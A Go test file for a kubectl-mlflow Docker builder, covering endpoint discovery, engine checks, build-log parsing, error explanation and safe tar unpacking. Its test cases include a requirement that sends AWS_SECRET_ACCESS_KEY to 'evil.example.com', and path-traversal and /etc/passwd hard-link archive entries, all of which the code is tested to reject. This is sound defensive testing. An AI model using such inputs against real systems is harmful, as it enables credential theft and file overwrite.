package docker

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/kubectl-mlflow/kubectl-mlflow/pkg/failure"
	"github.com/kubectl-mlflow/kubectl-mlflow/pkg/internal/image"
	"github.com/kubectl-mlflow/kubectl-mlflow/pkg/progress"
)

func TestTheEngineIsFoundAsDockerFindsIt(t *testing.T) {
	dir := t.TempDir()
	write := func(path, text string) {
		path = filepath.Join(dir, path)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	id := fmt.Sprintf("%x", sha256.Sum256([]byte("colima")))
	write("contexts/meta/"+id+"/meta.json", `{"Name": "colima", "Metadata": {}, "Endpoints": {"docker": {"Host": "unix:///home/me/.colima/docker.sock"}}}`)
	write("contexts/tls/"+id+"/docker/ca.pem", "")
	secrets := filepath.Join(dir, "contexts", "tls", id, "docker")
	usual := "unix:///var/run/docker.sock"
	if runtime.GOOS == "windows" {
		usual = "npipe:////./pipe/docker_engine"
	}
	for name, c := range map[string]struct {
		env       map[string]string
		config    string
		host, tls string
		fails     string
	}{
		"nothing said":                 {host: usual},
		"a configuration without one":  {config: `{"auths": {}}`, host: usual},
		"the default context":          {config: `{"currentContext": "default"}`, host: usual},
		"a context":                    {config: `{"currentContext": "colima"}`, host: "unix:///home/me/.colima/docker.sock", tls: secrets},
		"DOCKER_CONTEXT":               {env: map[string]string{"DOCKER_CONTEXT": "colima"}, config: `{"currentContext": "other"}`, host: "unix:///home/me/.colima/docker.sock", tls: secrets},
		"DOCKER_HOST":                  {env: map[string]string{"DOCKER_HOST": "tcp://10.0.0.1:2375", "DOCKER_CONTEXT": "colima"}, host: "tcp://10.0.0.1:2375"},
		"DOCKER_HOST with TLS":         {env: map[string]string{"DOCKER_HOST": "tcp://10.0.0.1:2376", "DOCKER_TLS_VERIFY": "1", "DOCKER_CERT_PATH": "/certs"}, host: "tcp://10.0.0.1:2376", tls: "/certs"},
		"a context that is not there":  {config: `{"currentContext": "gone"}`, fails: `no Docker context "gone"`},
		"a configuration of something": {config: `{`, fails: "config.json"},
	} {
		t.Run(name, func(t *testing.T) {
			if err := os.RemoveAll(filepath.Join(dir, "config.json")); err != nil {
				t.Fatal(err)
			}
			if c.config != "" {
				write("config.json", c.config)
			}
			got, err := findEndpoint(func(name string) string {
				if name == "DOCKER_CONFIG" {
					return dir
				}
				return c.env[name]
			})
			if c.fails != "" {
				if err == nil || !strings.Contains(err.Error(), c.fails) {
					t.Errorf("%+v, %v", got, err)
				}
				return
			}
			if err != nil || got.host != c.host || got.tls != c.tls {
				t.Errorf("%+v, %v", got, err)
			}
		})
	}
}

// engine answers as one on a socket.
func engine(t *testing.T, ostype, component string) (host string) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0") //nolint:noctx // closed by the server
	if err != nil {
		t.Fatal(err)
	}
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Api-Version", "1.41")
		w.Header().Set("Ostype", ostype)
		if strings.HasSuffix(r.URL.Path, "/version") {
			_, _ = fmt.Fprintf(w, `{"Components": [{"Name": %q, "Version": "4.9.3"}], "Version": "4.9.3"}`, component)
		}
	}))
	_ = server.Listener.Close() // the one that it came with
	server.Listener = listener
	server.Start()
	t.Cleanup(server.Close)
	return "tcp://" + listener.Addr().String()
}

func TestAnEngineThatCannotBuildIsToldBefore(t *testing.T) {
	e := image.Environment{Requirements: []string{"mlflow==3.17.2"}}
	for name, c := range map[string]struct {
		host   string
		e      image.Environment
		reason string
		says   string
	}{
		"well":                      {engine(t, "linux", "Engine"), e, "", ""},
		"a repository":              {engine(t, "linux", "Engine"), image.Environment{Requirements: []string{"mine @ git+https://git.example.com/mine"}}, "", ""},
		"Podman":                    {engine(t, "linux", "Podman Engine"), e, "DockerUnfit", "Podman 4.9.3"},
		"Windows":                   {engine(t, "windows", "Engine"), e, "DockerUnfit", "Windows"},
		"nobody":                    {"tcp://127.0.0.1:1", e, "DockerUnreachable", "127.0.0.1:1 (DOCKER_HOST)"},
		"no socket":                 {"unix://" + filepath.Join(t.TempDir(), "none.sock"), e, "DockerUnreachable", "none.sock"},
		"no address":                {"docker.example.com", e, "DockerHostInvalid", "docker.example.com"},
		"a path of another machine": {engine(t, "linux", "Engine"), image.Environment{Requirements: []string{"-e ./mine"}}, "BuilderCannot", "docker cannot build the environment"},
		"somebody else's variable":  {engine(t, "linux", "Engine"), image.Environment{Requirements: []string{"mine @ https://evil.example.com/${AWS_SECRET_ACCESS_KEY}.tar.gz"}}, "BuilderCannot", "AWS_SECRET_ACCESS_KEY"},
	} {
		t.Run(name, func(t *testing.T) {
			b := &Builder{Getenv: func(name string) string { return map[string]string{"DOCKER_HOST": c.host}[name] }}
			err := b.Check(t.Context(), c.e)
			f, _ := errors.AsType[*failure.Error](err)
			if c.reason == "" {
				if err != nil {
					t.Error(err)
				}
			} else if f == nil || f.Reason != c.reason || !strings.Contains(f.Error(), c.says) || f.Hint == "" {
				t.Errorf("%v\n%+v", err, f)
			}
		})
	}
}

// message encodes fields of a protobuf message, each a number and its content.
func message(parts ...any) (out []byte) {
	for i := 0; i < len(parts); i += 2 {
		number, _ := parts[i].(int)
		var content []byte
		switch v := parts[i+1].(type) {
		case string:
			content = []byte(v)
		case []byte:
			content = v
		}
		out = protowire.AppendTag(out, protowire.Number(number), protowire.BytesType) //nolint:gosec // small
		out = protowire.AppendBytes(out, content)
	}
	return out
}

type notes struct {
	progress.Step
	notes []string
}

func (s *notes) Note(text string) { s.notes = append(s.notes, text) }

func TestTheEnginesTalkIsRead(t *testing.T) {
	line := func(aux []byte) string {
		text, err := json.Marshal(map[string]string{"id": "moby.buildkit.trace", "aux": base64.StdEncoding.EncodeToString(aux)})
		if err != nil {
			t.Fatal(err)
		}
		return string(text) + "\n"
	}
	vertex := func(name string, ended bool) []byte {
		fields := []any{vertexName, name, vertexStarted, "t"}
		if ended {
			fields = append(fields, vertexCompleted, "t")
		}
		return message(statusVertexes, message(fields...))
	}
	log := func(text string) []byte { return message(statusLogs, message(1, "sha256:1", logMessage, text)) }
	step := &notes{Step: progress.Discard{}.Start("")}
	j := &journal{step: step}
	err := j.read(strings.NewReader(line(vertex("[build 1/2] FROM python", false)) + line(vertex("[build 1/2] FROM python", true)) + line(log("kubectl-mlflow: fetching packages\n")) +
		line(log("error: Failed to build `mine==1.0`\n")) + line([]byte{0xff, 0xff}) + `{"errorDetail": {"message": "exit code: 1"}, "error": "exit code: 1"}`))
	if err == nil || err.Error() != "exit code: 1" {
		t.Errorf("%v", err)
	}
	if got := strings.Join(step.notes, "|"); got != "the engine fetches the base image|fetching packages" {
		t.Errorf("noted %q", got)
	}
	if !strings.Contains(j.text.String(), "Failed to build `mine==1.0`") {
		t.Errorf("kept %q", j.text.String())
	}
	if err := j.read(strings.NewReader(`{"stream": "x"}` + "\n")); err != nil {
		t.Errorf("a build that went well: %v", err)
	}
	if err := j.read(strings.NewReader(`{"stream`)); err == nil {
		t.Error("an answer that breaks off is taken for a build that went well")
	}
}

func TestFailuresOfTheEngineAreTold(t *testing.T) {
	e := image.Environment{Base: "registry.example.com/python@sha256:ba5e", Platform: "linux/arm64", Python: "3.11", Apt: []string{"libfrob"}}
	const failed = "executor failed running [python3 /context/install.py]: exit code: 1"
	for name, c := range map[string]struct{ err, log, reason, says string }{
		"disk":         {"failed to solve: write /out/env/x: no space left on device", "", "DiskFull", "disk is full"},
		"platform":     {failed, "exec /usr/bin/python3: exec format error\n", "PlatformNotRun", "linux/arm64"},
		"plain HTTP":   {"failed to do request: Head \"https://r/v2/\": http: server gave HTTP response to HTTPS client", "", "BaseImageUnreachable", "plain HTTP"},
		"no right":     {"pull access denied, repository does not exist or may require authorization", "", "BaseImageUnauthorized", "registry.example.com/python"},
		"no network":   {"failed to do request: Head \"https://r/v2/\": dial tcp: lookup r: no such host", "", "BaseImageUnreachable", "cannot fetch"},
		"apt":          {failed, "E: Unable to locate package libfrob\nkubectl-mlflow: apt-get could not install libfrob\n", "SystemPackagesFailed", "libfrob"},
		"no index":     {failed, "ERROR: Could not find a version\nkubectl-mlflow: uv could not be fetched from the Python package index\n", "PackageIndexUnreachable", "uv could not be fetched"},
		"source code":  {failed, "kubectl-mlflow: fetching packages\nerror: Failed to build `mine==1.0`\n  gcc: no such file\n", "BuildFailed", "mine==1.0"},
		"requirements": {failed, "No solution found when resolving dependencies: your requirements are unsatisfiable\n", "RequirementsConflict", "exclude each other"},
		"other":        {"rpc error: code = Unknown desc = frontend grumpy.v0 failed", "", "DockerBuildFailed", "Docker could not build"},
	} {
		t.Run(name, func(t *testing.T) {
			f, ok := errors.AsType[*failure.Error](explain(t.Context(), errors.New(c.err), c.log, e))
			if !ok || f.Reason != c.reason || !strings.Contains(f.Message, c.says) || f.Hint == "" {
				t.Errorf("%+v", f)
			}
		})
	}
}

// archived is an archive of the entries; one that ends with a slash is a directory.
func archived(t *testing.T, entries ...*tar.Header) io.Reader {
	t.Helper()
	var out bytes.Buffer
	archive := tar.NewWriter(&out)
	for _, h := range entries {
		h.Mode = 0o644
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(h.Name))
		}
		if err := archive.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := io.WriteString(archive, h.Name); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := archive.Close(); err != nil {
		t.Fatal(err)
	}
	return &out
}

func TestWhatTheEngineSendsStaysInItsDirectory(t *testing.T) {
	regular := func(name string) *tar.Header { return &tar.Header{Name: name, Typeflag: tar.TypeReg} }
	for name, c := range map[string]struct {
		entries []*tar.Header
		fails   bool
	}{
		"packages":     {[]*tar.Header{{Name: "env/", Typeflag: tar.TypeDir}, regular("env/mine/__init__.py"), regular("./env/other.py"), regular("system.tar")}, false},
		"a way out":    {[]*tar.Header{regular("../outside")}, true},
		"absolute":     {[]*tar.Header{regular("/outside")}, true},
		"a link out":   {[]*tar.Header{{Name: "env", Typeflag: tar.TypeSymlink, Linkname: ".."}, regular("env/outside")}, true},
		"a device":     {[]*tar.Header{{Name: "env/null", Typeflag: tar.TypeChar}}, true},
		"a hard link":  {[]*tar.Header{{Name: "env/x", Typeflag: tar.TypeLink, Linkname: "/etc/passwd"}}, true},
		"inside a dir": {[]*tar.Header{regular("env/../../outside")}, true},
	} {
		t.Run(name, func(t *testing.T) {
			parent := t.TempDir()
			dir := filepath.Join(parent, "out")
			if err := os.Mkdir(dir, 0o700); err != nil {
				t.Fatal(err)
			}
			system := ""
			err := unpack(archived(t, c.entries...), dir, func(in io.Reader) error {
				text, err := io.ReadAll(in)
				system = string(text)
				return err
			})
			if (err != nil) != c.fails {
				t.Errorf("%v", err)
			}
			if _, err := os.Stat(filepath.Join(parent, "outside")); err == nil {
				t.Error("it wrote outside")
			}
			if c.fails {
				return
			}
			if text, err := os.ReadFile(filepath.Join(dir, "env", "mine", "__init__.py")); err != nil || string(text) != "env/mine/__init__.py" || system != "system.tar" {
				t.Errorf("%q, %v, system %q", text, err, system)
			}
		})
	}
}
